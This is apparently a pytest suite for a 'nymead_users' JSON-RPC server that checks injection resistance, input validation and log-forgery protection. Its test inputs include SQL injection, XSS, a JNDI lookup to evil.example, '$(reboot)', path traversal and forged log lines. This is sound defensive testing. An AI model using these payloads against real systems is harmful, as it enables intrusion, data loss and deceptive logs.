"""An attacker puts into every text something that is more than text to somebody: SQL, JSON, a terminal, a log."""

from __future__ import annotations

import asyncio
import json
import re
import signal
import sqlite3
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from conftest import PASSWORD, Dialect, Raw, Server, SpawnServer, StartServer, Transport
from house import DENIED, NO_ERROR, a_home, collected, compact, greeted, request
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from nymead_users.client import CallError, Client
from nymead_users.storage.datadir import STORE

#: Texts that stay what they are: nothing in them is a control character.
HARMLESS = {
    "sql": "Robert'); DROP TABLE users;--",
    "sql condition": "' OR '1'='1",
    "like": "%_\\",
    "json": '","scopes":["PermissionScopeAdmin"],"x":"',
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "format": "%s %n {0} {username!r} ${jndi:ldap://evil.example/x} $(reboot) `id`",
    "overridden direction": "\u202eexe.nimda\u202c",
    "invisible": "ad\u200bmin\ufeff",
    "combining": "Z\u0351\u036b\u0343alg\u034co",
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467 \u0130\u0131\u00df\u212a",
    "byte order": "\ufffe\uffff\U0010ffff",
    "path": "../../etc/passwd",
    "spaces": "  two  \u00a0 \u3000 ",
    "longest": "\U0001f600" * 255,
}

#: Texts with control characters, or too long to be one for people.
HARMFUL = {
    "nul": "admin\x00",
    "line feed": "x\n2026-01-01T00:00:00.000Z WARNING initial setup done account=evil",
    "carriage return": "x\rlogged in",
    "escape": "\x1b[2J\x1b]0;owned\x07",
    "delete": "\x7f\x08\x08",
    "c1": "\x9b2J\x85",
    "line separator": "x\u2028y\u2029z",
    "too long": "x" * 256,
    "far too long": "x" * 60_000,
}

TEXTS = {**HARMLESS, **HARMFUL}

LENIENT = {"free_attempts": 100_000}

THING = "11111111-2222-3333-4444-555555555555"


async def outcome(client: Client, method: str, params: dict[str, Any]) -> Any:
    """What a method returns, or the param that it refuses."""
    try:
        return await client.call(method, params)
    except CallError as refusal:
        return refused_param(client.dialect, method, refusal)


def refused_param(dialect: Dialect, method: str, refusal: CallError) -> str:
    """The param that a refusal names. Anything but invalid params fails the test."""
    if dialect == "jsonrpc2":
        assert refusal.code == -32602, (method, refusal.code, refusal.message)
        return str(refusal.data["param"])
    match = re.fullmatch(r"Invalid params: .+ in (\S+), param (\S*)", refusal.message, re.DOTALL)
    assert match, refusal.message
    assert match[1] == method
    return match[2]


def intact(directory: Path) -> None:
    """The database is whole and has all its tables."""
    database = sqlite3.connect(directory / STORE)
    try:
        assert database.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        names = {name for (name,) in database.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}
        assert {"users", "tokens", "known_addresses", "server"} <= names
    finally:
        database.close()


@pytest.mark.parametrize("texts", [HARMLESS, HARMFUL], ids=["harmless", "harmful"])
async def test_texts_for_people_are_kept_to_the_letter_or_refused(
    home: Server, dialect: Dialect, texts: dict[str, str]
) -> None:
    """Display name, e-mail and device name come back exactly as they were given, or are refused by their name."""
    admin = await home.login(dialect=dialect)
    client = await home.client(dialect=dialect)
    fine = texts is HARMLESS
    for text in texts.values():
        for number, name in enumerate(("displayName", "email")):
            user = {"username": f"user{number}", "password": PASSWORD}
            made = await outcome(admin, "Users.CreateUser", {**user, name: text})
            assert made == (NO_ERROR if fine else name), text
            changed = await outcome(admin, "Users.SetUserInfo", {"username": "admin", name: text})
            assert changed == (NO_ERROR if fine else name), text
        login = {"username": "admin", "password": PASSWORD, "deviceName": text}
        logged_in = await outcome(client, "JSONRPC.Authenticate", login)
        assert (logged_in == "deviceName") is not fine, text
        shown = {user["username"]: user for user in (await admin.call("Users.GetUsers"))["users"]}
        devices = [token["deviceName"] for token in (await admin.call("Users.GetTokens"))["tokenInfoList"]]
        if fine:
            assert shown["user0"]["displayName"] == shown["user1"]["email"] == text
            assert shown["admin"]["displayName"] == shown["admin"]["email"] == text
            assert devices.count(text) == 1
            for number in (0, 1):
                assert await admin.call("Users.RemoveUser", {"username": f"user{number}"}) == NO_ERROR
        else:
            assert set(shown) == {"admin"}
            assert shown["admin"]["displayName"] == shown["admin"]["email"] == ""
            assert devices == ["a device"]
    intact(home.data_dir)


#: A param's value that is fine by itself, by its name; the others are texts.
VALUES: dict[str, Any] = {
    "allowedThingIds": [THING],
    "scopes": ["PermissionScopeControlThings"],
    "tokenId": THING,
    "namespaces": ["Users"],
    "enabled": False,
    "password": PASSWORD,
    "newPassword": PASSWORD,
    **dict.fromkeys(
        (
            "boundLockId",
            "credentialId",
            "grantId",
            "id",
            "lockGroupId",
            "lockId",
            "ownerAccountId",
            "ownerId",
            "personId",
            "smartlockId",
            "startAfterId",
        ),
        THING,
    ),
    **dict.fromkeys(
        (
            "forceRevokeGrants",
            "forceUnjoinLocks",
            "includeAccessDenied",
            "includeAccessGranted",
            "includeUnboundLocks",
            "remote",
            "canShare",
            "remoteAllowed",
            "virtual",
        ),
        True,
    ),
    **dict.fromkeys(
        ("allowedFromDate", "fromDate", "start", "time", "validFrom", "validFromDate"), "2026-01-01T00:00:00Z"
    ),
    **dict.fromkeys(("allowedUntilDate", "end", "toDate", "validBefore", "validToDate"), "2300-01-01T00:00:00Z"),
    **dict.fromkeys(("toUserId", "userId"), "+4781549300"),
    **{name: [THING] for name in ("accessLevels", "ids", "smartlockIds")},
    "auths": [{"id": THING, "name": "App", "allowedFromDate": "2026-01-01T00:00:00Z", "code": "394857"}],
    "code": "394857",
    "continuationKey": "1000",
    "credential": {"type": "code", "value": "1234"},
    "expand": "",
    "filter": "id ne null",
    "items": [{"id": THING, "error": "none"}],
    "key": {"identification": "1234", "type": "code"},
    "orderBy": "id",
    "person": {"id": THING, "firstName": "Ann", "lastName": "Aal"},
    "phone": "+4781549300",
    "pin": "1234",
    "recurrence": {"mon": {"startHour": 8, "startMinute": 0, "endHour": 9, "endMinute": 0}},
    "schedule": {"weekly": [{"weekdays": ["mon"], "from": "08:00", "until": "17:00"}]},
    "state": "active",
    "smartActionsEnabled": False,
    "timeZone": "UTC",
    "types": "0,13",
    "type": "code",
    "value": "1234",
}


def attacks(contract: dict[str, Any], values: dict[str, Any], text: str) -> list[tuple[str, str, dict[str, Any]]]:
    """For each param of each method that takes text anywhere: a call with this text in it."""
    calls = []
    for method, declared in contract["methods"].items():
        if method == "JSONRPC.Hello":
            continue  # it would log the caller out; it has a test of its own
        params = {
            name.split(":")[-1]: 1 if kind in ("Int", "Uint") else values.get(name.split(":")[-1], "nobody")
            for name, kind in declared["params"].items()
        }
        for name, value in params.items():
            calls.append((method, name, {**params, name: [text] if isinstance(value, list) else text}))
            calls += [(method, name, {**params, name: within}) for within in attacked_within(value, text)]
    return calls


def attacked_within(value: Any, text: str) -> Iterator[Any]:
    """A value that has members, with the text in place of each of them in turn."""
    if isinstance(value, dict):
        for key, member in value.items():
            yield {**value, key: text}
            yield from ({**value, key: within} for within in attacked_within(member, text))
    elif isinstance(value, list):
        yield from ([within] for member in value for within in attacked_within(member, text))


@pytest.mark.parametrize(("transport", "dialect"), [("tcp", "nymea"), ("ws", "jsonrpc2")])
async def test_every_text_of_every_method_takes_anything(
    start_server: StartServer, transport: Transport, dialect: Dialect
) -> None:
    """Whatever text is in whichever param, the server answers with an outcome or names the param, and goes on."""
    server = await start_server(throttling=LENIENT, push_button=True)
    await server.set_up()
    admin = await server.login("admin", transport, dialect)
    contract = await admin.call("JSONRPC.Introspect")
    owner = (await admin.call("Access.GetOwners"))["owners"][0]["id"]
    values = {**VALUES, **dict.fromkeys(("ownerId", "ownerAccountId", "lockHolderId"), owner)}
    attacked = set()
    with collected() as lines:
        for text in TEXTS.values():
            caller = await server.login("admin", transport, dialect)
            for method, name, params in attacks(contract, values, text):
                answer = await outcome(caller, method, params)
                attacked.add((method, name))
                assert isinstance(answer, dict) or answer.partition(".")[0] == name, (method, name, answer)
                if name == "sessionId":
                    assert answer == {"success": True, "sessionId": text}
                if method.endswith(".Authenticate") and isinstance(answer, dict):
                    assert answer == {"success": False}
            await caller.close()
            # What the attack has achieved within its rights.
            await admin.call("Users.RemoveUser", {"username": "nobody"})
            assert await admin.call("Users.ChangePassword", {"newPassword": PASSWORD}) == NO_ERROR
    assert {("Users.CreateUser", "email"), ("JSONRPC.KeepAlive", "sessionId")} <= attacked
    assert {
        ("Access.AddLock", "title"),
        ("Access.AddGrant", "schedule"),
        ("LockGroups.GetLockGroups", "filter"),
    } <= attacked
    assert len(attacked) > 150
    assert [user["username"] for user in (await admin.call("Users.GetUsers"))["users"]] == ["admin"]
    assert lines.named("call failed") == lines.named("the database failed") == []
    assert not any("exception" in json.loads(line) for line in lines.json)
    intact(server.data_dir)


async def test_hello_takes_any_text(home: Server, transport: Transport, dialect: Dialect) -> None:
    """A locale that is none gives the default one or is refused; a token that is none logs nobody in."""
    for text in TEXTS.values():
        client = await home.client(transport, dialect, hello=False)
        answer = await outcome(client, "JSONRPC.Hello", {"locale": text})
        assert answer == "locale" or re.fullmatch(r"[a-z]{2,3}(_([A-Z]{2}|[0-9]{3}))?", answer["locale"])
        await client.close()
        raw = await home.raw(transport)
        message = request("JSONRPC.Hello", dialect=dialect, token=text)
        if dialect == "jsonrpc2":
            message["params"] = {"token": message.pop("token")}
        reply = await raw.ask(compact(message))
        assert reply.get("result", reply.get("params"))["authenticated"] is False


NAMES = {
    **TEXTS,
    "cyrillic": "\u0430dmin",
    "full width": "\uff41\uff44\uff4d\uff49\uff4e",
    "kelvin": "\u212aate",
    "dotted": "adm\u0130n",
    "trailing line feed": "admin\n",
    "trailing space": "admin ",
    "empty": "",
    "short": "ab",
    "long": "x" * 255,
}


async def test_no_user_can_be_made_whose_name_looks_like_anothers(home: Server) -> None:
    """A name outside the documented characters is refused, so that no two users look alike on a screen."""
    admin = await home.login()
    for label, name in NAMES.items():
        for method, params in (
            ("Users.CreateUser", {"password": PASSWORD}),
            ("Users.RemoveUser", {}),
            ("Users.SetUserInfo", {"email": "x"}),
            ("Users.SetUserScopes", {"scopes": []}),
            ("Users.ChangeUserPassword", {"newPassword": PASSWORD}),
        ):
            answer = await admin.call(method, {"username": name, **params})
            assert answer == {"error": "UserErrorInvalidUserId"}, (method, label)
    assert [user["username"] for user in (await admin.call("Users.GetUsers"))["users"]] == ["admin"]


async def test_a_password_may_be_any_text(start_server: StartServer) -> None:
    """Passwords are not texts for people: whatever is in them counts to the last character."""
    server = await start_server(throttling=LENIENT)
    await server.set_up()
    admin = await server.login()
    client = await server.client()
    for number, text in enumerate(TEXTS.values()):
        name, password = f"odd{number}", f"{text}Aa1bcdef"
        made = await admin.call("Users.CreateUser", {"username": name, "password": password})
        if len(password.encode()) > 1024:
            assert made == {"error": "UserErrorBadPassword"}
            continue
        assert made == NO_ERROR
        similar = {password[:-1], f"{password}\x00", password.replace("\x00", ""), password.partition("\x00")[0]}
        for wrong in similar - {password}:
            assert await client.authenticate(name, wrong, "phone") is None
        assert await client.authenticate(name, password, "phone") is not None


async def test_lone_surrogates_are_no_text(home: Server, transport: Transport, dialect: Dialect) -> None:
    """Half a character, which JSON can spell and UTF-8 cannot, is a parse error wherever it stands."""
    raw = await greeted(home, transport)
    for method, params in (
        ("JSONRPC.Authenticate", {"username": "@", "password": PASSWORD, "deviceName": "x"}),
        ("JSONRPC.Authenticate", {"username": "admin", "password": "@", "deviceName": "x"}),
        ("JSONRPC.Authenticate", {"username": "admin", "password": PASSWORD, "deviceName": "@"}),
        ("JSONRPC.@", {}),
        ("JSONRPC.Hello", {"@": 1}),
    ):
        for half in (r"\ud800", r"\udfff\ud800", r"\uDC00x"):
            for number in (1, 2**70):
                text = compact(request(method, params, dialect=dialect, number=number, token="@"))
                reply = await raw.ask(text.replace("@", half))
                error = reply["error"]
                assert "Failed to parse JSON data: " in str(error) or error["code"] == -32700
                assert half not in str(reply)
    assert (await raw.ask(request("JSONRPC.Hello")))["status"] == "success"


async def answered(raw: Raw, method: str, params: dict[str, Any]) -> Any:
    """What a method of JSON-RPC 2.0 returns, or the param that it refuses: never an internal error."""
    reply = await raw.ask(json.dumps(request(method, params, dialect="jsonrpc2"), ensure_ascii=False) + "\n")
    if "error" not in reply:
        return reply["result"]
    assert reply["error"]["code"] == -32602, reply
    return reply["error"]["data"]["param"]


def is_text(text: str) -> bool:
    """Whether this is a text for people, said in other words than the product's."""
    return len(text) <= 255 and not re.search("[\x00-\x1f\x7f-\x9f\u2028\u2029]", text)


anything = st.one_of(
    st.text(max_size=40),
    st.text(alphabet=st.sampled_from("'\"\\;-%_{}[]<>\x00\x1b\n\r\x85\u2028\u202e\ufeff aA1"), max_size=40),
    st.text(min_size=250, max_size=260),
)


async def test_no_text_breaks_creation_login_or_details(start_server: StartServer) -> None:
    """Over one connection, users are made, logged in and changed with any texts whatever: nothing ever fails."""
    server = await start_server(throttling=LENIENT)
    await server.set_up()
    login = await (await server.client()).authenticate("admin", PASSWORD, "phone")
    assert login is not None
    raw = await server.raw("ws")
    hello = await raw.ask(compact(request("JSONRPC.Hello", {"token": login.token}, dialect="jsonrpc2")))
    assert hello["result"]["authenticated"] is True
    loop = asyncio.get_running_loop()

    @settings(deadline=None, max_examples=120, suppress_health_check=list(HealthCheck))
    @given(username=anything, password=anything, display_name=anything, email=anything)
    @example(username="admin", password=PASSWORD, display_name="", email="")
    @example(username="bob", password=PASSWORD, display_name="\u202e", email="'")
    def attack(username: str, password: str, display_name: str, email: str) -> None:
        work = everything(username, password, display_name, email)
        asyncio.run_coroutine_threadsafe(work, loop).result()

    async def everything(username: str, password: str, display_name: str, email: str) -> None:
        refused = [name for name, text in (("displayName", display_name), ("email", email)) if not is_text(text)]
        details = {"displayName": display_name, "email": email}
        made = await answered(raw, "Users.CreateUser", {"username": username, "password": password, **details})
        if refused:
            assert made == refused[0]
        else:
            assert made["error"] in {
                "UserErrorNoError",
                "UserErrorInvalidUserId",
                "UserErrorBadPassword",
                "UserErrorDuplicateUserId",
            }
        changed = await answered(raw, "Users.SetUserInfo", {"username": "admin", **details})
        assert changed == (refused[0] if refused else NO_ERROR)
        shown = (await answered(raw, "Users.GetUserInfo", {}))["userInfo"]
        if not refused:
            assert (shown["displayName"], shown["email"]) == (display_name, email)
        # An unbound connection for the login: its token must not take the place of the administrator's.
        attempt = {"username": username, "password": password, "deviceName": display_name}
        logged_in = await answered(stranger, "JSONRPC.Authenticate", attempt)
        if is_text(display_name):
            right = (username.lower(), password) == ("admin", PASSWORD) or made == NO_ERROR
            assert logged_in["success"] is right
        else:
            assert logged_in == "deviceName"
        if made == NO_ERROR:
            assert await answered(raw, "Users.RemoveUser", {"username": username}) == NO_ERROR

    stranger = await server.raw("tcp")
    with collected() as lines:
        await asyncio.to_thread(attack)
    assert lines.named("call failed") == lines.named("the database failed") == []
    assert not any("exception" in json.loads(line) for line in lines.json)
    intact(server.data_dir)


FORGED = "2026-01-01T00:00:00.000Z WARNING initial setup done account=evil"
#: What would be a line of its own if it were written as it is; each begins differently.
FORGERIES = [
    f"x\n{FORGED}",
    f"x\r\n{FORGED}",
    f"x\r{FORGED}",
    f"x\x85{FORGED}",
    f"x\u2028{FORGED}",
    f"x\x0b{FORGED}\x0c",
    f"x\x1b[2K\x1b[1G{FORGED}",
    f"x\u202e{FORGED[::-1]}",
    f'x" user=admin level="error\n{FORGED}',
]


async def forge(raw: Raw, text: str) -> int:
    """Put a forgery wherever an anonymous peer's words might reach the log; how many logins failed."""
    assert (await raw.ask(request("JSONRPC.Hello", {"locale": "en"})))["status"] == "success"
    params = {"username": text, "password": text, "deviceName": "x"}
    assert (await raw.ask(request("JSONRPC.Authenticate", params)))["params"] == {"success": False}
    device = await raw.ask(request("JSONRPC.Authenticate", {**params, "deviceName": text}))
    await raw.ask(request("JSONRPC.Authenticate", {text: text}))
    await raw.ask(request("JSONRPC.Hello", {"locale": text}))
    await raw.ask(request(text.replace(".", ""), {}))
    # No JSON: every line of it is answered.
    await raw.send(f"]{text}\n")
    await raw.send(request("JSONRPC.Hello", number=77))
    while (await raw.receive())["id"] != 77:
        pass
    # Last, since it ends the connection.
    await raw.ask(request(f"Users.{text.replace('.', '')}", {}))
    return 2 if device["status"] == "success" else 1


@pytest.mark.alone
@pytest.mark.parametrize("line_format", ["text", "json"])
async def test_no_log_line_is_forged(spawn_server: SpawnServer, line_format: str) -> None:
    """Each thing that happened has one line, and no peer can write one of their own, or onto another's."""
    process = await spawn_server(
        "--log-level", "debug", "--log-format", line_format, environ={"NYMEAD_USERS_THROTTLING__FREE_ATTEMPTS": "1000"}
    )
    client = await Client.connect(process.url())
    await client.hello()
    assert await client.call("JSONRPC.CreateUser", {"username": "admin", "password": PASSWORD}) == NO_ERROR
    await client.close()
    attempts = 0
    for text in FORGERIES:
        raw = await Raw.open(process.url())
        try:
            attempts += await forge(raw, text)
        finally:
            await raw.close()
    process.signal(signal.SIGTERM)
    assert await process.ended() == 0
    lines = (await process.log()).removesuffix("\n").split("\n")
    if line_format == "json":
        messages = [json.loads(line)["message"] for line in lines]
        assert all({"time", "level", "logger", "message"} <= json.loads(line).keys() for line in lines)
    else:
        parsed = [
            re.fullmatch(r"\d{4}-\d\d-\d\dT[\d:.]+Z (?:DEBUG|INFO|WARNING|ERROR) (.+?)( \w+=.*)?", line)
            for line in lines
        ]
        messages = [match[1] if match else "no line" for match in parsed]
        assert all(line.isprintable() for line in lines)
    assert messages.count("login failed") == attempts
    assert messages.count("unauthorized") == len(FORGERIES)
    assert messages.count("initial setup done") == 1
    assert set(messages) <= {
        "server started",
        "connected",
        "initial setup done",
        "login failed",
        "not JSON",
        "unauthorized",
        "disconnected",
        "server stopping",
        "server stopped",
    }, set(messages)


async def test_a_peer_cannot_fill_the_log_with_long_names(home: Server, transport: Transport) -> None:
    """However long the names that a peer makes up, its log lines stay short."""
    with collected() as lines:
        for method, params in (
            ("JSONRPC.Authenticate", {"username": "x" * 900_000, "password": "x", "deviceName": "x"}),
            (f"Users.{'x' * 900_000}", {}),
        ):
            raw = await greeted(home, transport)
            await raw.ask(compact(request(method, params)))
    assert lines.named("login failed")
    assert lines.named("unauthorized")
    assert max(map(len, lines.text)) < 2000


async def test_uuids_are_read_as_nothing_else(tmp_path: Path) -> None:
    """A token's id is a uuid with or without braces; what merely contains one, or SQL, is refused."""
    async with a_home(tmp_path) as house:
        admin = await house.login(dialect="jsonrpc2")
        (token,) = await house.users.tokens("admin")
        for wrong in (
            f"{token.id}' OR '1'='1",
            f"%{token.id}",
            f"{{{token.id}",
            f"{token.id}\n",
            "*",
            "",
            str(token.id)[:-1] + "_",
        ):
            reply = await admin.ask("Users.RemoveToken", {"tokenId": wrong})
            assert reply["error"]["data"]["param"] == "tokenId"
        for other in (f"{{{uuid.uuid4()}}}", str(uuid.uuid4()).upper()):
            assert await admin.call("Users.RemoveToken", {"tokenId": other}) == {"error": "UserErrorTokenNotFound"}
        assert await house.tokens("admin") == 1


async def test_members_that_are_no_params_change_nothing(tmp_path: Path) -> None:
    """A request cannot say who it is from, or what it may do, by further members and params."""
    async with a_home(tmp_path) as house:
        await house.add("guest")
        guest = await house.login("guest")
        extras = {
            "principal": "admin",
            "scopes": ["PermissionScopeAdmin"],
            "user": {"username": "admin"},
            "caller": None,
        }
        message = {**request("Users.GetUsers", token=guest.token, number=50), **extras}
        await guest.session.receive(message)
        assert guest.received[-1]["error"] == "Permission denied."
        for name in ("scopes", "self", "caller", "params", "__class__", "model_config", "username "):
            reply = await guest.ask("Users.GetUserInfo", {name: "admin"})
            assert reply["error"] == f"Invalid params: Invalid key: {name} in Users.GetUserInfo, param {name}"
        assert await guest.call("JSONRPC.CreateUser", {"username": "evil", "password": PASSWORD}) == DENIED
